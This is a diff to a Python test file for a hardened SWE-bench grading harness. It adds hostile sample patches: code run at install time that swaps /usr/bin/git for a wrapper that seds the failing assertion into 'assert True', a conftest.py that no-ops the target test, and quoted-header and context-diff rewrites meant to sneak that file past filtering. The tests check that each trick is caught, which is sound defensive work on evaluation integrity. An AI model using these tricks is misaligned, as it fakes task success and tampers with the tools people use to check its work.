@@ -8,6 +8,7 @@ fixture's repository bundle.
 
 from __future__ import annotations
 
+import difflib
 import json
 import re
 import subprocess
@@ -125,6 +126,36 @@ def version_file_that_writes_a_pth(repo: Path) -> None:
                                                WRITE_PTH + '__version__ = "3.0" + ".2"'))
 
 
+# runs at the eval's `pip install -e .` (a metadata-only patch): replaces the grader's git with a
+# wrapper that, after a real `git apply` (the test patch), rewrites the FAIL_TO_PASS assertion
+# into a pass; the canary, appended later, is left alone (issue 42)
+WRAP_GIT = r'''import os as _os, shutil as _sh
+if _os.path.isfile("/usr/bin/git") and not _os.path.exists("/usr/bin/git.real"):
+    _sh.move("/usr/bin/git", "/usr/bin/git.real")
+    with open("/usr/bin/git", "w") as _f:
+        _f.write('#!/bin/sh\n/usr/bin/git.real "$@"; s=$?\nif [ "$1" = apply ]; then '
+                 'sed -i "s/assert str(dev_version) == .*/assert True/" '
+                 '/testbed/tests/test_subclass.py; fi\nexit $s\n')
+    _os.chmod("/usr/bin/git", 0o755)
+'''
+
+
+def version_file_that_wraps_git(repo: Path) -> None:
+    about = repo / "src/semver/__about__.py"
+    about.write_text(about.read_text().replace('__version__ = "3.0.2"',
+                                               WRAP_GIT + '__version__ = "3.0" + ".2"'))
+
+
+# a root conftest.py that replaces only the FAIL_TO_PASS test with a no-op: the canary's tests
+# (appended to the same file later) still read as planted
+SPARE_CANARY = f'''def pytest_collection_modifyitems(items):
+    for item in items:
+        if item.name == {F2P.split("::")[-1]!r}:
+            item.obj = lambda *args, **kwargs: None
+'''
+HARMLESS = append("src/semver/__init__.py", "\n# harmless\n")
+
+
 # a pytest plugin that pytest loads by itself: a distribution's `pytest11` entry point, found by
 # importlib.metadata in src/ (on sys.path through the editable install's .pth), or named by a
 # config file that pytest 9 reads before setup.cfg's [tool:pytest]
@@ -154,7 +185,29 @@ HACKS: dict[str, list[Edit]] = {
     "hack__pytest-ini-plugin-1": PLUGIN_INI,
     "hack__flip-reports-1": [append("src/semver/__init__.py", FLIP_REPORTS)],
     "hack__own-junit-exit-1": [append("src/semver/__init__.py", OWN_JUNIT_AND_EXIT)],
+    "hack__install-wraps-git-1": [version_file_that_wraps_git],
+    "hack__quoted-conftest-1": [write("conftest.py", SPARE_CANARY), HARMLESS],
+    "hack__context-conftest-1": [],
 }
+# patches rewritten after git wrote them: git's quoted header form for the root conftest.py, and
+# the whole patch as a context diff (`diff -c`: git refuses it, `patch --fuzz` applies it); the
+# harmless source edit makes the apply change a tracked file (the repository ignores `/*.py`)
+REWRITES: dict[str, Callable[[str, Path], str]] = {
+    "hack__quoted-conftest-1": lambda diff, _repo: diff.replace(
+        "diff --git a/conftest.py b/conftest.py", 'diff --git "a/conftest.py" "b/conftest.py"'
+    ).replace("+++ b/conftest.py", '+++ "b/conftest.py"'),
+    "hack__context-conftest-1": lambda _diff, repo: context_patch(repo),
+}
+
+
+def context_patch(repo: Path) -> str:
+    init = (repo / "src/semver/__init__.py").read_text().splitlines(keepends=True)
+    return ("".join(difflib.context_diff([], SPARE_CANARY.splitlines(keepends=True),
+                                         "a/conftest.py", "b/conftest.py"))
+            + "".join(difflib.context_diff(init, [*init, "\n", "# harmless\n"],
+                                           "a/src/semver/__init__.py", "b/src/semver/__init__.py")))
+
+
 CANARY_HACKS = ("hack__flip-reports-1", "hack__own-junit-exit-1")
 # the canary's tests, appended to the fix's test file: ids of that file that no list names
 CANARY_ID = re.compile(r"(?:PASSED|FAILED) (tests/test_subclass\.py::test_[a-z_]+)")
@@ -184,7 +237,8 @@ def make_diff(workdir: Path, edits: list[Edit]) -> str:
 @pytest.fixture(scope="module")
 def hack_run(docker_available: bool, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
     tmp = tmp_path_factory.mktemp("hacks")
-    patches = {k: make_diff(tmp, edits) for k, edits in HACKS.items()}
+    patches = {k: REWRITES.get(k, lambda d, _r: d)(make_diff(tmp, edits), tmp / "repo")
+               for k, edits in HACKS.items()}
     patches["honest__gold-1"] = BASE.patch
     rows = [BASE.model_copy(update={"instance_id": k}).row() for k in patches]
     preds = [{"instance_id": k, "model_name_or_path": "hostile", "model_patch": p}
@@ -193,7 +247,7 @@ def hack_run(docker_available: bool, tmp_path_factory: pytest.TempPathFactory) -
     (tmp / "p.jsonl").write_text("\n".join(json.dumps(p) for p in preds) + "\n")
     args = ["eval", "swebench", "--dataset", str(tmp / "d.jsonl"), "--predictions",
             str(tmp / "p.jsonl"), "--run-id", "hacks", "--output-dir", str(tmp),
-            "--max-workers", "3", "--no-clone", "--timeout", "300"]
+            "--max-workers", "3", "--no-clone", "--timeout", "300", "--hardened"]
     result = CliRunner().invoke(app, args)
     assert result.exit_code == 0, result.output
     return {"args": args, "tmp": tmp, "summary": json.loads((tmp / "hostile.hacks.json").read_text()),
@@ -228,6 +282,11 @@ def test_each_hack_is_stopped_where_it_is_meant_to_be(hack_run: dict[str, Any]) 
         "fail read PASSED in the log)")
     assert "canary test that must fail has no result in the log" in report(
         hack_run, "hack__own-junit-exit-1")["ungradable"]
+    assert report(hack_run, "hack__install-wraps-git-1")["ungradable"].startswith(
+        "the install changed the grader's tools or the test patch's files: /usr/bin/git")
+    assert report(hack_run, "hack__quoted-conftest-1")["dropped_files"] == ["conftest.py"]
+    assert report(hack_run, "hack__context-conftest-1")["dropped_files"] == ["conftest.py"]
+    assert {report(hack_run, i)["grading"] for i in HACKS} == {"hardened"}
 
 
 def test_gold_still_resolves_and_the_apply_log_is_in_order(hack_run: dict[str, Any]) -> None:
@@ -268,11 +327,20 @@ def test_compare_lists_where_swebench_would_have_been_fooled(hack_run: dict[str,
     found = json.loads(result.stdout.strip().splitlines()[-1])
     assert found["compared"] == len(HACKS) + 1 and found["not_run"] == []
     differ = {d["instance_id"]: d for d in found["differences"]}
+    # a different patch (files dropped) or a run stopped before its tests: the official harness
+    # would have graded another log, so no verdict of its is claimed
+    not_graded = {"hack__root-conftest-1", "hack__tests-conftest-1", "hack__setup-py-pth-1",
+                  "hack__dist-info-plugin-1", "hack__pytest-ini-plugin-1",
+                  "hack__quoted-conftest-1", "hack__context-conftest-1",
+                  "hack__version-file-pth-1", "hack__install-wraps-git-1"}
     # swebench 4.1.0 reads the forged PASSED lines and ignores the exit code: resolved; it
     # reads the rewritten reports as pytest printed them: resolved
-    assert set(differ) == {"hack__forged-exit-1", *CANARY_HACKS}, found
-    assert all(d["swebench"] == "resolved" for d in differ.values())
+    fooled = {"hack__forged-exit-1", *CANARY_HACKS}
+    assert set(differ) == not_graded | fooled, found
+    assert {i for i, d in differ.items() if d["swebench"] == "not graded"} == not_graded
+    assert all(differ[i]["swebench"] == "resolved" for i in fooled)
     assert any("JUnit" in r for r in differ["hack__forged-exit-1"]["reasons"])
+    assert "different patch" in differ["hack__root-conftest-1"]["reasons"][0]
     for instance_id in CANARY_HACKS:
         assert any("canary" in r for r in differ[instance_id]["reasons"]), differ[instance_id]
     planted = canary_ids((hack_run["dir"] / "honest__gold-1" / "test_output.txt").read_text())
